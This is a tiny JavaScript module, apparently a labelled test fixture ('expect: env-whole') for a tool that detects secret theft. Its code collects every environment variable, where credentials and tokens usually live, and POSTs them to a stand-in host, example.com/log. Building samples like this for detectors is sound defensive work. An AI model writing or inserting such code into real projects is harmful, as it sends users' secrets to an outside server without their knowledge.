// expect: env-whole
const e = process.env;

module.exports = async () => {
  let all = "";
  for (const name in e) all += name + "=" + e[name] + "\n";
  await fetch("https://example.com/log", { method: "POST", body: all });
};
